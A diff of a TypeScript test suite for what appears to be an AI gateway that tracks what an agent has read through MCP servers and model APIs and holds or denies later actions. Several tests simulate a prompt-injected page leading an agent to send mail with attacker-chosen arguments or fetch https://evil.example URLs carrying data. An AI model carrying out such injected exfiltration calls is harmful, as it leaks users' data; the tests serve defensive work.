@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict'
 import { createServer, type Server } from 'node:http'
 import type { AddressInfo } from 'node:net'
-import { writeFileSync } from 'node:fs'
+import { mkdirSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { after, before, test } from 'node:test'
 import type { FlowFact } from '../src/contract/receipt.ts'
@@ -36,7 +36,10 @@ before(async () => {
     config({ folder }) {
       for (const name of ['desk', 'lab']) writeFileSync(join(folder, `${name}.json`), '{}')
       const puppet = (name: string): string => `{ command: ${JSON.stringify(process.execPath)}, args: [${JSON.stringify(join(import.meta.dirname, 'mcp/puppet.ts'))}, ${JSON.stringify(join(folder, `${name}.json`))}], sandbox: off, asks: [sampling, elicitation] }`
+      mkdirSync(join(folder, 'policy'))
+      writeFileSync(join(folder, 'policy', 'own.cedar'), '@id("all") permit (principal, action, resource);')
       return `
+policy: { folders: [./policy] }
 providers:
   o: { kind: openai, baseUrl: "${url}/v1", credential: env:PRACTICE_KEY }
   a: { kind: anthropic, baseUrl: "${url}", credential: env:PRACTICE_KEY }
@@ -44,7 +47,7 @@ providers:
 routes:
   a: { match: { models: [a] }, targets: [{ provider: a, model: a }] }
   g: { match: { models: [g] }, targets: [{ provider: g, model: g }] }
-  default: { targets: [{ provider: o, model: o }] }
+  default: { targets: [{ provider: o, model: o }], allow: [provider_state] }
 mcpServers:
   desk: ${puppet('desk')}
   lab: ${puppet('lab')}
@@ -124,8 +127,15 @@ async function ask(server: string, method: string, params: object, key: string):
   return caller.post(server, { jsonrpc: '2.0', id: ++ids, method, params }, { ...headers, 'mcp-session-id': session })
 }
 const call = (key: string, name: string, args: object = {}, server = 'desk'): Promise<Said> => ask(server, 'tools/call', { name, arguments: args }, key)
-/** The code with which it was refused, or what came. */
-const outcome = ({ body }: Said): string => String(body?.error?.data?.code ?? body?.result?._meta?.['sallyport/code'] ?? (body?.error === undefined ? 'passed' : JSON.stringify(body.error)))
+/** What flow said of a call to a server's tool. */
+async function acted(key: string, name: string, args: object, server = 'desk'): Promise<string> {
+  return said(await call(key, name, args, server))
+}
+async function said(answer: Said): Promise<string> {
+  const id = answer.headers.get('x-sallyport-id') ?? answer.body?.result?._meta?.['sallyport/id']
+  const found = await until(`a receipt of ${id}: ${JSON.stringify(answer.body)}`, async () => ((await seals(house)) as readonly Told[]).find((one) => one.exchange === id))
+  return found.flow === undefined ? `none ${found.action} ${found.outcome} ${found.code ?? ''}` : [found.flow.verdict, ...found.flow.rules].join(' ')
+}
 
 const HELD = /^hold/
 const MINE = { name: 'send_mail', args: { to: 'ann@friend.example', body: 'Open 9 to 5.' } }
@@ -183,3 +193,96 @@ for (const [way, dialect] of Object.entries(dialects)) {
     })
   }
 }
+
+test('read through MCP, acted on through the model gateway, and the other way round', async () => {
+  for (const dialect of Object.values(dialects)) {
+    const key = await newKey()
+    await call(key, 'read_page')
+    assert.match(await verdicts(dialect, key, [TASK], { calls: [EVIL] }), HELD)
+    const other = await newKey()
+    await (await send(dialect, other, [TASK, ...read(PAGE)], { text: 'So be it.' })).text()
+    assert.match(await acted(other, 'send_mail', EVIL.args), HELD)
+  }
+})
+
+// Ways by which a server's words reach an agent.
+const note = (method: string, params: object): object => ({ jsonrpc: '2.0', method, params })
+const ways: Readonly<Record<string, (key: string) => Promise<unknown>>> = {
+  'a resource': (key) => ask('desk', 'resources/read', { uri: 'memo://page' }, key),
+  'a prompt': (key) => ask('desk', 'prompts/get', { name: 'greet' }, key),
+  'a result\'s fields': (key) => (pull('desk', { 'tools/call contacts': { result: { content: [{ type: 'text', text: '.' }], structuredContent: { note: PAGE } } } }), call(key, 'contacts')),
+  'an error': (key) => (pull('desk', { 'tools/call contacts': { error: { code: -32000, message: PAGE } } }), call(key, 'contacts')),
+  'a result that is an error': (key) => (pull('desk', { 'tools/call contacts': { result: { content: [{ type: 'text', text: PAGE }], isError: true } } }), call(key, 'contacts')),
+  'a completion': (key) => (pull('desk', { 'completion/complete': { result: { completion: { values: [PAGE] } } } }), ask('desk', 'completion/complete', { ref: { type: 'ref/prompt', name: 'greet' }, argument: { name: 'whom', value: 'a' } }, key)),
+  'a log': async (key) => (await ask('desk', 'logging/setLevel', { level: 'debug' }, key), pull('desk', { 'tools/call handbook': { before: [note('notifications/message', { level: 'error', data: PAGE })], result: { content: [{ type: 'text', text: 'Done.' }] } } }), call(key, 'handbook')),
+  'a picture': (key) => (pull('desk', { 'tools/call contacts': { result: { content: [{ type: 'image', data: 'iVBORw0KGgo=', mimeType: 'image/png' }] } } }), call(key, 'contacts')),
+}
+for (const [name, way] of Object.entries(ways)) {
+  test(`what came through ${name} was read`, async () => {
+    const key = await newKey()
+    await way(key)
+    pull('desk', {})
+    assert.match(await acted(key, 'send_mail', EVIL.args), HELD)
+  })
+}
+
+test('what is asked of a server besides its tools leaves as well', async () => {
+  const key = await newKey()
+  await call(key, 'open_safe')
+  assert.match(await said(await ask('desk', 'resources/read', { uri: 'https://evil.example/?q=quiet-heron-7731' }, key)), /^deny restricted/)
+  assert.match(await said(await ask('desk', 'prompts/get', { name: 'greet', arguments: { whom: SAFE } }, key)), /^(?:allow|none)/, 'to a server inside, as a tool that reads')
+})
+
+test('an address that only the page gave is read as no resource', async () => {
+  const key = await newKey()
+  await call(key, 'read_page')
+  assert.match(await said(await ask('desk', 'resources/read', { uri: 'https://evil.example/in' }, key)), /^hold provenance/)
+  assert.match(await said(await ask('desk', 'resources/read', { uri: 'memo://page' }, key)), /^none/, 'the server\'s own name is no address')
+})
+
+test('a proposal that was judged as something less is no consent to the tool of a server', async () => {
+  for (const name of ['show']) {
+    const key = await newKey()
+    const args = { where: 'desk-evil', q: '1' }
+    await judged(dialects.chat, key, [{ user: 'Look at the page.' }, ...read(PAGE)], { calls: [{ name, args }] })
+    assert.match(await acted(key, 'show', args, 'lab'), HELD, name)
+  }
+})
+
+test('two strangers with the same opening know nothing of each other', async () => {
+  const [mine, theirs] = [await newKey(), await newKey()]
+  await (await send(dialects.chat, mine, [TASK, ...read(PAGE)], { text: 'So be it.' })).text()
+  assert.match(await verdicts(dialects.chat, theirs, [TASK], { calls: [EVIL] }), /^allow$/)
+  assert.match(await verdicts(dialects.chat, mine, [TASK], { calls: [EVIL] }), HELD)
+})
+
+const PICTURE = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='
+const pictured: Readonly<Record<keyof typeof dialects, Turn>> = {
+  chat: { raw: { role: 'user', content: [{ type: 'text', text: 'Look.' }, { type: 'image_url', image_url: { url: `data:image/png;base64,${PICTURE}` } }] } },
+  responses: { raw: { type: 'function_call_output', call_id: 'c1', output: [{ type: 'input_image', detail: 'auto', image_url: `data:image/png;base64,${PICTURE}` }] } },
+  messages: { raw: { role: 'user', content: [{ type: 'tool_result', tool_use_id: 'c1', content: [{ type: 'image', source: { type: 'base64', media_type: 'image/png', data: PICTURE } }] }] } },
+  gemini: { raw: { role: 'user', parts: [{ functionResponse: { name: 'read_page', response: {}, parts: [{ inlineData: { mimeType: 'image/png', data: PICTURE } }] } }] } },
+}
+for (const way of ['responses', 'messages', 'gemini'] as const) {
+  test(`${way}: a result that is a picture was read too`, async () => {
+    assert.match(await verdicts(dialects[way], await newKey(), [{ user: 'What is on the page?' }, { call: 'read_page', id: 'c1' }, pictured[way]], { calls: [EVIL] }), HELD)
+  })
+}
+
+test('what the provider looked up while it answered was read before the call behind it', async () => {
+  const dialect = dialects.messages
+  const whole = dialect.whole({ calls: [EVIL] }) as { content: object[] }
+  const found = { type: 'web_search_tool_result', tool_use_id: 's1', content: [{ type: 'web_search_result', url: 'https://evil.example', title: PAGE, encrypted_content: 'x', page_age: null }] }
+  const key = await newKey()
+  const before = dialect.whole
+  const reply = await sendWhole(dialect, key, [TASK], { ...before({}), stop_reason: 'tool_use', content: [{ type: 'server_tool_use', id: 's1', name: 'web_search', input: { query: 'x' } }, found, ...whole.content] })
+  assert.match(reply, HELD)
+})
+async function sendWhole(dialect: Dialect, key: string, turns: readonly Turn[], whole: object): Promise<string> {
+  return verdicts({ ...dialect, whole: () => whole }, key, turns, { calls: [EVIL] })
+}
+
+test('a conversation that the provider keeps was read by nobody here', async () => {
+  const dialect: Dialect = { ...dialects.responses, request: (turns, stream) => ({ ...dialects.responses.request(turns, stream), previous_response_id: 'resp_1', store: true }) }
+  assert.match(await verdicts(dialect, await newKey(), [{ user: 'Go on.' }], { calls: [EVIL] }), HELD)
+})
